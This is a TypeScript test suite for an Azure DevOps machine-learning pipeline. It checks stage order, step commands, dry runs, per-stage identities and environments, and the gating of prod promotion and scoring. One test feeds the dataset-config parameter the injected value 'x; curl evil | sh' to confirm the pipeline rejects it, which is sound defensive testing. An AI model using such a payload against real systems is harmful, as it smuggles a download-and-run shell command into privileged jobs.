import { readdirSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { STAGE_IDENTITIES } from '../../infra/access-plan.ts';
import { executedStages, executedSteps } from './execution.ts';
import {
  commandLines,
  expandPipeline,
  type Job,
  pipelinesDir,
  readYaml,
  repoRoot,
  type Stage,
  scriptOf,
  stepsOf,
} from './expand.ts';

const file = path.join(pipelinesDir, 'ml.yml');
const ml = expandPipeline(file);
// A scheduled or manual run with the defaults, on the first attempt of each job.
const scheduled = { 'System.JobAttempt': '1' };

const stage = (name: string): Stage => {
  const found = ml.stages.find((s) => s.stage === name);
  if (!found) throw new Error(`ml.yml has no stage ${name}`);
  return found;
};
const stepCommands = (pipeline = ml, variables: Record<string, string> = scheduled) =>
  executedSteps(pipeline, variables).flatMap((s) =>
    s.commands.filter((c) => c.startsWith('node ')).map((command) => ({ stage: s.stage, command })),
  );
const allCommandsOf = (name: string) =>
  stage(name)
    .jobs.flatMap(stepsOf)
    .flatMap((step) => {
      const script = scriptOf(step);
      return script ? commandLines(script) : [];
    })
    .filter((c) => c.startsWith('node '));
const environmentOf = (job: Job) =>
  typeof job.environment === 'string' ? job.environment : (job.environment as { name?: string })?.name;

const VERIFY =
  'node .azure-pipelines/scripts/verify-prod.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)';

describe('ml.yml', () => {
  it('runs Prepare and Image, then Train, EvaluateAndPromote, VerifyProd, Score, each after the one before', () => {
    expect(ml.stages.map((s) => s.stage)).toEqual([
      'Prepare',
      'Image',
      'ImageProd',
      'Train',
      'EvaluateAndPromote',
      'VerifyProd',
      'ArchiveRejected',
      'Score',
    ]);
    expect(Object.fromEntries(ml.stages.map((s) => [s.stage, s.dependsOn ?? null]))).toEqual({
      Prepare: null,
      Image: [],
      ImageProd: [],
      Train: ['Prepare', 'Image'],
      EvaluateAndPromote: 'Train',
      VerifyProd: 'EvaluateAndPromote',
      ArchiveRejected: 'VerifyProd',
      Score: ['VerifyProd', 'ImageProd'],
    });
    expect(executedStages(ml, scheduled).map((s) => s.stage)).toEqual([
      'Prepare',
      'Image',
      'ImageProd',
      'Train',
      'EvaluateAndPromote',
      'VerifyProd',
      'Score',
    ]);
  });

  it('calls one step script per stage, with the dataset config, the environment and the run id', () => {
    expect(stepCommands()).toEqual([
      {
        stage: 'Prepare',
        command: 'node steps/prepare.ts --config $(datasetConfig) --env $(devEnvironment)',
      },
      {
        stage: 'Image',
        command:
          'node .azure-pipelines/scripts/runtime-image.ts --config $(datasetConfig) --env $(devEnvironment)',
      },
      {
        stage: 'ImageProd',
        command:
          'node .azure-pipelines/scripts/runtime-image.ts --config $(datasetConfig) --env $(prodEnvironment) --image-only',
      },
      {
        stage: 'Train',
        command: 'node steps/train.ts --config $(datasetConfig) --env $(devEnvironment) --run $(runId)',
      },
      {
        stage: 'EvaluateAndPromote',
        command:
          'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)',
      },
      {
        stage: 'EvaluateAndPromote',
        command:
          'node .azure-pipelines/scripts/publish-decisions.ts --config $(datasetConfig) --env $(prodEnvironment) ' +
          '--run $(runId) --out $(Build.ArtifactStagingDirectory)/decisions',
      },
      { stage: 'VerifyProd', command: VERIFY },
      {
        stage: 'Score',
        command: 'node steps/score.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)',
      },
    ]);
    expect(ml.variables.runId).toBe('ado-$(Build.BuildId)');
    // Every step's code version (lineage, and the runtime image tag the cluster jobs pin) is the commit.
    expect(ml.variables.MM_CODE_VERSION).toBe('$(Build.SourceVersion)');
  });

  it('resumes the same training run when failed jobs are rerun', () => {
    const rerun = stepCommands(ml, { 'System.JobAttempt': '2' }).filter((c) => c.stage === 'Train');
    expect(rerun.map((c) => c.command)).toEqual([
      'node steps/train.ts --config $(datasetConfig) --env $(devEnvironment) --run $(runId) --resume',
    ]);
  });

  it('takes the dataset config and dry run as run parameters (each stage’s environment follows its identity)', () => {
    expect(ml.parameters).toEqual({ datasetConfig: 'configs/demo.yaml', dryRun: false });
    const picked = expandPipeline(file, {
      datasetConfig: 'configs/oj-sales.yaml',
      dryRun: true,
    });
    expect(picked.variables).toMatchObject({
      datasetConfig: 'configs/oj-sales.yaml',
      devEnvironment: 'dev',
      prodEnvironment: 'prod',
      dryRun: 'True',
    });
    // The environment is no run parameter any more: each stage's comes from its identity's stack.
    expect(() => expandPipeline(file, { environment: 'prod' })).toThrow(/unexpected parameter 'environment'/);
    // Issue 18 item 11: the dataset config reaches shell commands under privileged identities, so it is a closed
    // list (Azure DevOps refuses any other value at queue time), the configs/ files exactly.
    expect(() => expandPipeline(file, { datasetConfig: 'x; curl evil | sh' })).toThrow(/not one of/);
    const declared = (readYaml(file) as { parameters: { name: string; values?: string[] }[] }).parameters;
    const configs = readdirSync(path.join(repoRoot, 'configs')).filter((f) => f.endsWith('.yaml'));
    expect(declared.find((p) => p.name === 'datasetConfig')!.values).toEqual(
      configs.map((f) => `configs/${f}`),
    );
    for (const p of declared as { name: string; type: string; values?: unknown[] }[]) {
      if (p.type === 'string') expect(p.values, `${p.name} is free text`).toBeDefined();
    }
    expect(() => expandPipeline(file, { shardCount: 4 })).toThrow(/shardCount/);
  });

  it('in a dry run evaluates with --dry-run, publishes no decisions and does not score', () => {
    const dry = expandPipeline(file, { dryRun: true });
    expect(executedStages(dry, scheduled).map((s) => s.stage)).toEqual([
      'Prepare',
      'Image',
      'Train',
      'EvaluateAndPromote',
    ]);
    const promote = stepCommands(dry).filter((c) => c.stage === 'EvaluateAndPromote');
    expect(promote.map((c) => c.command)).toEqual([
      'node steps/evaluate-and-promote.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId) --dry-run',
    ]);
    const tasks = executedSteps(dry, scheduled).map((s) => s.step.task);
    expect(tasks).not.toContain('PublishPipelineArtifact@1');
  });

  it('binds EvaluateAndPromote and Score to the prod environment as deployment jobs', () => {
    for (const name of ['EvaluateAndPromote', 'Score']) {
      const jobs = stage(name).jobs;
      expect(jobs.length).toBeGreaterThan(0);
      for (const job of jobs) {
        expect(job.deployment, `${name}: every job is a deployment job`).toBeTypeOf('string');
        expect(environmentOf(job), `${name}: bound to prod`).toBe('prod');
        expect(job.strategy).toHaveProperty('runOnce.deploy.steps');
      }
    }
  });

  // Issue 18 items 4 and 9: the gate runs where prod versions are written (the SDK, not Pulumi): no stack
  // preview in the promotion stage; a read-only identity re-verifies the run's prod versions before scoring.
  it('gates scoring on a read-only re-verification of the run’s prod versions, and previews no stack', () => {
    const all = executedSteps(ml, scheduled).flatMap((s) => s.commands);
    expect(all.filter((c) => c.startsWith('pulumi '))).toEqual([]);
    const verify = executedSteps(ml, scheduled).filter((s) => s.stage === 'VerifyProd');
    expect(verify.flatMap((s) => s.commands)).toContain(VERIFY);
    expect(stage('VerifyProd').condition).toBe("and(succeeded(), eq(variables.dryRun, 'false'))");
  });

  it('publishes the decisions as the `decisions` artifact and a summary on the run', () => {
    const steps = executedSteps(ml, scheduled).filter((s) => s.stage === 'EvaluateAndPromote');
    const summary = steps.findIndex((s) => s.commands.some((c) => c.includes('publish-decisions.ts')));
    const publish = steps.findIndex((s) => s.step.task === 'PublishPipelineArtifact@1');
    expect(summary).toBeGreaterThanOrEqual(0);
    expect(publish).toBeGreaterThan(summary);
    const out = /--out (\S+)/.exec(steps[summary]!.commands.join('\n'))![1];
    expect(steps[publish]!.step.inputs).toEqual({ targetPath: out, artifact: 'decisions' });
  });

  it('signs in per stage as the identity infra/access-plan.ts names; only EvaluateAndPromote uses the promotion one', () => {
    const identities = (name: string) => [
      ...new Set(
        stage(name)
          .jobs.flatMap(stepsOf)
          .filter((s) => s.task === 'AzureCLI@2')
          .map((s) => (s.inputs as { azureSubscription: string }).azureSubscription),
      ),
    ];
    expect(identities('Prepare')).toEqual([ml.variables.serviceConnectionDataprep]);
    expect(identities('Image')).toEqual([ml.variables.serviceConnectionMlDev]);
    expect(identities('ImageProd')).toEqual([ml.variables.serviceConnectionImagePush]);
    expect(identities('Train')).toEqual([ml.variables.serviceConnectionMlDev]);
    expect(identities('EvaluateAndPromote')).toEqual([ml.variables.serviceConnectionPromotion]);
    expect(identities('VerifyProd')).toEqual([ml.variables.serviceConnectionAudit]);
    expect(identities('Score')).toEqual([ml.variables.serviceConnectionMlProd]);
    for (const s of STAGE_IDENTITIES.filter((x) => x.pipeline === 'ml')) {
      expect(identities(s.stage), s.stage).toEqual([s.serviceConnection]);
    }
  });

  // Issue 13 defect 4: one `--env` for every stage ran promotion and scoring against the dev lake, where their
  // identities may not write. Each stage reads the environment file of its identity's stack.
  it('passes each stage the environment of the stack its STAGE_IDENTITIES identity lives in', () => {
    const envOf = (command: string) => {
      const macro = /--env \$\((\w+)\)/.exec(command)?.[1];
      expect(macro, command).toBeDefined();
      return ml.variables[macro!];
    };
    // ArchiveRejected runs only when VerifyProd failed, which no scenario here assumes: read its steps directly.
    for (const planned of STAGE_IDENTITIES.filter((x) => x.pipeline === 'ml')) {
      const commands = (
        planned.stage === 'ArchiveRejected'
          ? allCommandsOf(planned.stage)
          : executedSteps(ml, scheduled)
              .filter((s) => s.stage === planned.stage)
              .flatMap((s) => s.commands)
      ).filter((c) => c.startsWith('node '));
      expect(commands.length, planned.stage).toBeGreaterThan(0);
      for (const command of commands) expect(envOf(command), command).toBe(planned.stack);
    }
    expect(ml.parameters).not.toHaveProperty('environment');
  });

  // Issue 18 item 9: a mismatch found by the read-only auditor is archived by the only prod writer, and the run
  // stays failed: the archive stage never unblocks Score.
  it('archives rejected prod versions only after VerifyProd failed, as the promotion identity, never before Score', () => {
    const archive = stage('ArchiveRejected');
    expect(archive.dependsOn).toBe('VerifyProd');
    expect(archive.condition).toBe('failed()');
    expect(allCommandsOf('ArchiveRejected')).toEqual([
      'node .azure-pipelines/scripts/archive-rejected.ts --config $(datasetConfig) --env $(prodEnvironment) --run $(runId)',
    ]);
    expect([stage('Score').dependsOn].flat()).not.toContain('ArchiveRejected');
  });

  it('runs daily on main and otherwise only when queued by hand', () => {
    expect(ml.trigger).toBe('none');
    expect(ml.pr).toBe('none');
    expect(ml.schedules).toEqual([
      expect.objectContaining({
        cron: expect.stringMatching(/^\d{1,2} \d{1,2} \* \* \*$/),
        branches: { include: ['main'] },
        always: true,
      }),
    ]);
    // Two runs must never promote into the same registry at once.
    expect(ml.lockBehavior).toBe('sequential');
  });

  it('declares each stage’s dependencies explicitly, so reordering the file cannot change the flow', () => {
    for (const s of ml.stages.slice(1)) expect(s.dependsOn, s.stage).toBeDefined();
  });
});
